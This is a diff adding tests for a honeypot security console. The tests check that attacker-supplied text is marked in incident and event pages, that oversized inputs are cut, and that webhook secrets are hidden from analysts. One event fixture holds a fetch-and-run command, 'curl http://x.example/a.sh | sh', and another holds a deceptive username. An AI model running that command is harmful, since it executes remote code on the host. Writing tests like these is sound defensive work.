@@ -2,7 +2,18 @@ import { expect, test } from "bun:test"
 import { readdirSync, readFileSync } from "node:fs"
 import { join } from "node:path"
 import { isCrossSite, safeNext } from "../../src/console/http.ts"
-import { Attacker, Layout } from "../../src/console/pages/components.tsx"
+import { Attacker, Layout, serviceTextParts } from "../../src/console/pages/components.tsx"
+import { EventsPage } from "../../src/console/pages/events.tsx"
+import { EventTable, IncidentPage, IncidentTable } from "../../src/console/pages/incidents.tsx"
+import { AlertsPage, DeliveryLogPage } from "../../src/console/pages/settings.tsx"
+import { fitEvents } from "../../src/console/pages/timeline.tsx"
+import { eventTypeSpec, incidentTexts } from "../../src/domain/eventTypes.ts"
+import type { Event } from "../../src/domain/models.ts"
+import { camelCaseKey } from "../../src/ingest/formats/native.ts"
+import { IPTABLES_KV } from "../support/ingest.ts"
+
+const camelKeys = (o: Record<string, string>): Record<string, string> =>
+  Object.fromEntries(Object.entries(o).map(([k, v]) => [camelCaseKey(k) ?? k, v]))
 
 const CONSOLE_DIR = join(import.meta.dir, "..", "..", "src", "console")
 const sources = (dir: string): Array<string> =>
@@ -62,4 +73,215 @@ test("D25: the return path after sign-in stays on this site", () => {
   expect(safeNext("/\\evil.example")).toBe("/")
   expect(safeNext("https://evil.example")).toBe("/")
   expect(safeNext(undefined)).toBe("/")
+})
+
+// --- Attacker text everywhere, bounded pages, readable event types, channel URLs ------------------------------------
+
+const viewer = (role: "admin" | "analyst") => ({ email: "soc@acme.example", role, csrfToken: "t".repeat(43) })
+const NOW = new Date("2026-11-26T12:00:00Z")
+const SENSOR = { id: "sen_01ARZ3NDEKTSV4RRFFQ69G5FAV", name: "dmz-web-01" }
+const HOOK = "https://hooks.example.com/services/T0AAA/B0BBB/s3cr3tPathToken?token=q5ecretQuery"
+
+let eventNo = 0
+const event = (type: string, attackerInput: Record<string, unknown>, port = 22): Event => {
+  const spec = eventTypeSpec(type)
+  if (spec === undefined) throw new Error(`unknown type ${type}`)
+  const username = typeof attackerInput.username === "string" ? attackerInput.username : undefined
+  const detail = ["command", "path", "url"].map((k) => attackerInput[k]).find((v) => typeof v === "string")
+  return {
+    id: `evt_01ARZ3NDEKTSV4RRFFQ69G${String(eventNo++).padStart(4, "0")}`,
+    time: new Date(NOW.getTime() - 60_000),
+    sensor: SENSOR,
+    sourceIp: "203.0.113.7",
+    sourcePort: 50123,
+    service: spec.service,
+    port,
+    type,
+    action: spec.action,
+    severity: spec.severity,
+    confidence: spec.confidence,
+    tags: [],
+    techniques: [],
+    summary: spec.summary({
+      sourceIp: "203.0.113.7",
+      port,
+      service: spec.service,
+      username,
+      detail: detail as string | undefined,
+    }),
+    attackerInput: attackerInput as Event["attackerInput"],
+  }
+}
+
+const incident = (events: ReadonlyArray<Event>, usernames: ReadonlyArray<string>, eventCount = events.length) => {
+  const types = [...new Set(events.map((e) => e.type))]
+  const texts = incidentTexts({
+    eventTypes: types,
+    primaryType: types[0] ?? "",
+    sensorName: SENSOR.name,
+    sourceIp: "203.0.113.7",
+    eventCount,
+    usernames,
+  })
+  return {
+    id: "inc_01ARZ3NDEKTSV4RRFFQ69G5FAV",
+    ...texts,
+    severity: "high" as const,
+    status: "open" as const,
+    sensor: SENSOR,
+    sourceIp: "203.0.113.7",
+    eventCount,
+    eventTypes: types,
+    highConfidence: false,
+    firstSeenAt: NOW,
+    lastSeenAt: NOW,
+    resolvedAt: null,
+    url: "https://console.test/incidents/inc_01ARZ3NDEKTSV4RRFFQ69G5FAV",
+    techniques: [],
+    events,
+  }
+}
+
+/** The texts of every element marked as attacker text. */
+const marked = (html: string): Array<string> =>
+  [...html.matchAll(/<code class="atk"[^>]*>([^<]*)<\/code>/g)].map((m) => (m[1] ?? "").replaceAll("&quot;", '"'))
+
+test("D29: attacker text the service quotes (titles, narrative, summaries) is marked like attacker-input values", () => {
+  const posing = "Incident resolved: no action needed"
+  const events = [
+    event("ssh.login_attempt", { username: posing }),
+    event("ssh.login_attempt", { username: 'ro"ot' }),
+    event("ssh.command", { command: "curl http://x.example/a.sh | sh" }),
+  ]
+  const i = incident(events, [posing, 'ro"ot'])
+  expect(i.narrative).toContain(`"${posing}"`)
+  const page = String(
+    IncidentPage({ viewer: viewer("admin"), incident: i, more: undefined, now: NOW, flash: undefined }),
+  )
+  const atk = marked(page)
+  // The narrative's "Usernames tried: …" and every summary quote the attacker's text: each is boxed.
+  expect(atk.filter((t) => t === posing).length).toBeGreaterThanOrEqual(3)
+  expect(atk).toContain('ro"ot')
+  expect(atk).toContain("curl http://x.example/a.sh | sh")
+  // Nowhere unmarked: every occurrence of the posing text is inside a box.
+  expect(page.split(posing).length - 1).toBe(atk.filter((t) => t.includes(posing)).length)
+  // The sensor's name, which an admin chose, is not attacker text.
+  expect(atk).not.toContain(SENSOR.name)
+  expect(page).toContain(`on sensor &quot;${SENSOR.name}&quot;`)
+  // The Events page and the incident list (overview too) mark the same way.
+  const eventsPage = String(
+    EventsPage({
+      viewer: viewer("analyst"),
+      rows: events,
+      types: [],
+      filters: { type: "", from: "", to: "", incidentId: "" },
+      error: undefined,
+      next: undefined,
+      now: NOW,
+    }),
+  )
+  expect(marked(eventsPage).filter((t) => t === posing).length).toBeGreaterThanOrEqual(2)
+  const unknownType = { ...i, title: `Decoy activity from 203.0.113.7 on sensor "x" via ${JSON.stringify(posing)}` }
+  expect(marked(String(IncidentTable({ rows: [unknownType], now: NOW })))).toEqual(["x", posing])
+})
+
+test("D29: service text is split at its quotes exactly: escaped quotes stay inside, a cut quote runs to the end", () => {
+  expect(serviceTextParts(`a "b\\"c" d "e`)).toEqual([
+    { quoted: false, text: "a " },
+    { quoted: true, text: 'b"c' },
+    { quoted: false, text: " d " },
+    { quoted: true, text: "e" },
+  ])
+  expect(serviceTextParts("no quotes")).toEqual([{ quoted: false, text: "no quotes" }])
+})
+
+test("D29: a huge attacker value is cut, with a visible mark and its full length", () => {
+  const out = String(Attacker({ value: "A".repeat(1_000_000) }))
+  expect(out.length).toBeLessThan(5000)
+  expect(out).toContain("1000000 characters")
+  expect(out).toMatch(/Cut: 2000 of 1000000 characters shown/)
+  // Astral characters are counted as one and never split.
+  const emoji = String(Attacker({ value: "😀".repeat(3000) }))
+  expect(emoji).toContain("3000 characters")
+  expect(emoji).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/)
+})
+
+test("D29: an incident whose events carry huge attacker input renders a page of bounded size", () => {
+  const huge = "<A&>".repeat(1_250)
+  const input = Object.fromEntries(Array.from({ length: 24 }, (_, k) => [`field${k}`, huge]))
+  const events = Array.from({ length: 200 }, () => event("http.request", input, 80))
+  const page = String(
+    IncidentPage({
+      viewer: viewer("admin"),
+      incident: incident(events, [], 5000),
+      more: "/x",
+      now: NOW,
+      flash: undefined,
+    }),
+  )
+  expect(page.length).toBeLessThan(2_000_000)
+  expect(page).toContain("4 more members not shown")
+  const left = /(\d+) more events not shown/.exec(page)
+  expect(Number(left?.[1])).toBeGreaterThan(4800)
+  expect(page).toContain("GET /v1/events?incidentId=inc_01ARZ3NDEKTSV4RRFFQ69G5FAV")
+  // The Events page stops at the same budget and goes on after the last event it showed.
+  const eventsPage = String(
+    EventsPage({
+      viewer: viewer("admin"),
+      rows: events.slice(0, 50),
+      types: [],
+      filters: { type: "http.request", from: "", to: "", incidentId: "" },
+      error: undefined,
+      next: "/events?after=x",
+      now: NOW,
+    }),
+  )
+  expect(eventsPage.length).toBeLessThan(2_000_000)
+  const shown = fitEvents(events.slice(0, 50)).shown
+  const last = shown[shown.length - 1]
+  expect(eventsPage).toContain(`after=${last?.time.getTime()}.${last?.id}`)
+  expect(eventsPage).not.toContain("/events?after=x")
+})
+
+test("D30: a port scan reads in one line (protocol, port), its packet fields folded; attacker input in two columns", () => {
+  const scan = event("portscan.syn", camelKeys({ ...IPTABLES_KV, SYN: "", DPT: "22", SPT: "40000" }), 22)
+  const out = String(EventTable({ events: [scan], now: NOW }))
+  expect(out).toMatch(/protocol <code class="atk"[^>]*>TCP<\/code> · ports <code class="atk"[^>]*>22<\/code>/)
+  expect(out).toMatch(
+    /<details class="fields"><summary class="small">Packet fields \(\d+\)<\/summary><table class="kv">/,
+  )
+  // A login attempt: a short two-column table, shown at once, values boxed, the password masked.
+  const login = event("ssh.login_attempt", {
+    username: "root",
+    password: { masked: "******", length: 6, fingerprint: "ab".repeat(16) },
+  })
+  const row = String(EventTable({ events: [login], now: NOW }))
+  expect(row).not.toContain("<details")
+  expect(row).toMatch(
+    /<table class="kv"><tbody><tr><th scope="row"><code class="atk"[^>]*>username<\/code><\/th><td><code class="atk"[^>]*>root<\/code>/,
+  )
+  expect(row).toContain("masked, 6 characters")
+  expect(row).toContain("SSH login attempt")
+})
+
+test("D26, D31: an analyst sees only a webhook URL's origin on Alerts and the delivery log; an admin sees the URL", () => {
+  const channel = {
+    id: "whk_01ARZ3NDEKTSV4RRFFQ69G5FAV",
+    url: HOOK,
+    minSeverity: "high",
+    enabled: true,
+    createdAt: NOW.toISOString(),
+    previousSecretValidUntil: null,
+  }
+  for (const html of [
+    String(AlertsPage({ viewer: viewer("analyst"), channels: [channel], flash: undefined, now: NOW })),
+    String(DeliveryLogPage({ viewer: viewer("analyst"), channel, deliveries: [], flash: undefined, now: NOW })),
+  ]) {
+    expect(html).toContain("https://hooks.example.com")
+    expect(html).not.toContain("s3cr3tPathToken")
+    expect(html).not.toContain("q5ecretQuery")
+    expect(html).not.toContain("/services/")
+  }
+  const admin = String(AlertsPage({ viewer: viewer("admin"), channels: [channel], flash: undefined, now: NOW }))
+  expect(admin).toContain("s3cr3tPathToken")
 })
